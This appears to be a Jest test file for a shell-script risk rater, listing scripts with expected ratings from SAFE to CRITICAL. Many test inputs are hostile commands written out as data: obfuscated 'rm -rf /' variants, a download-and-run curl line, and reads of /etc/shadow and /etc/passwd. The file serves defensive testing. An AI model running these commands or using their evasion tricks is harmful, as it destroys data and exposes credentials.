import { beforeAll, describe, expect, test } from '@jest/globals';
import type { RiskLevel } from '../level.js';
import { openRating } from '../testing/rate-script.js';

let rate: (script: string) => RiskLevel;

beforeAll(async () => {
  rate = await openRating();
});

const nested = 'xargs -n1 '.repeat(12);

describe('commands', () => {
  test.each([
    [`tar xf x --to-command cat --to-command 'rm -rf /'`, 'CRITICAL'],
    ['curl -o curl https://e/x; sh curl', 'CRITICAL'],
    ['echo a b c d e f g h /etc/shadow | xargs -n1 cat', 'HIGH'],
    [`echo 'rm -rf /' | xargs -a list -I{} sh`, 'CRITICAL'],
    [`x=1; x=2; bash <<EOF\nrm -rf / $x\nEOF`, 'CRITICAL'],
    [`x='rm -rf /'; x=ls; bash <<< "$x"`, 'CRITICAL'],
    ['for x in 1 2; do python3 - <<EOF\nprint($x)\nEOF\ndone', 'SAFE'],
  ] as const)('%j is %s', (script, level) => {
    expect(rate(script)).toBe(level);
  });

  test('what xargs reads is not there for the xargs that it starts', () => {
    const before = performance.now();
    expect(rate(`echo 1 2 3 4 5 6 7 8 9 | ${nested} rm -rf /`)).toBe('CRITICAL');
    expect(performance.now() - before).toBeLessThan(5000);
  });
});

describe('where a script is', () => {
  test.each([
    ['cd /; cd -; cd -; rm -rf *', 'CRITICAL'],
    ['cd /; cd -; rm -rf *', 'MEDIUM'],
    ['pushd /; cd src; popd; echo x > y', 'LOW'],
    ['cd /; pushd src; popd; rm -rf *', 'CRITICAL'],
    ['d=src; d=/etc; cd "$d"; cat shadow', 'HIGH'],
    [`cd "$1"; env -C /etc sh -c 'echo x > passwd'`, 'HIGH'],
    ['(cd /; ls); echo x > out', 'LOW'],
    ['(cd /; rm -rf *)', 'CRITICAL'],
    ['DIR="$(cd "$(dirname "$0")" && pwd)"; echo x > out', 'LOW'],
    ['f() { cd /; }; echo x > out', 'LOW'],
    ['f() { cd /; }; f; rm -rf *', 'CRITICAL'],
    ['f() { cd /; }; (f); f; rm -rf *', 'CRITICAL'],
    ['g() { cd /; }; f() { g; }; g; rm -rf *', 'CRITICAL'],
    ['f() { cd /; }; f; cd src; f; rm -rf *', 'HIGH'],
    ['f() { cd /; }; eval f; rm -rf *', 'HIGH'],
    ['cd "$(dirname "$0")"; cat x', 'SAFE'],
    ['cd "$(dirname "${BASH_SOURCE[0]}")"; echo x > y', 'LOW'],
    ['cd "$(dirname "$1")"; echo x > y', 'MEDIUM'],
    ['BASH_ARGV0=/etc/x; cd "$(dirname "$0")"; cat x', 'HIGH'],
  ] as const)('%j is %s', (script, level) => {
    expect(rate(script)).toBe(level);
  });
});

describe('variables of everyday scripts', () => {
  test.each([
    ['tool=wc; while IFS= read -r l; do echo "$l"; done <a; $tool -l a', 'SAFE'],
    [`tool=wc; while read -r -d $'\\0' l; do echo "$l"; done <a; $tool -l a`, 'SAFE'],
    [`tool=wc; trap 'echo "$LINENO"' ERR; $tool -l a`, 'SAFE'],
    [`tool=wc; eval 'read $x'; $tool -l a`, 'HIGH'],
    [`tool=wc; eval '$x tool'; $tool -l a`, 'HIGH'],
    [`tool=wc; read $'to\\x6fl'; $tool -l a`, 'HIGH'],
    ['n=1; head -n $((n*2)) x', 'SAFE'],
    ['n=1; sed -n "$((n+1))p" f', 'SAFE'],
    ['n=1; awk "NR==$((n+1))" f', 'SAFE'],
    [`awk "BEGIN{system(\\"\\\\$((162))m -rf /\\")}"`, 'HIGH'],
    [`$((1)) -rf /`, 'HIGH'],
    [`python3 -c "print($((1)))"`, 'HIGH'],
    [`f=$(printf 'img_%03d.png' 1); echo x > $f`, 'LOW'],
    [`f=$(printf '%.0s/etc/passwd' 1); echo x > $f`, 'MEDIUM'],
  ] as const)('%j is %s', (script, level) => {
    expect(rate(script)).toBe(level);
  });
});
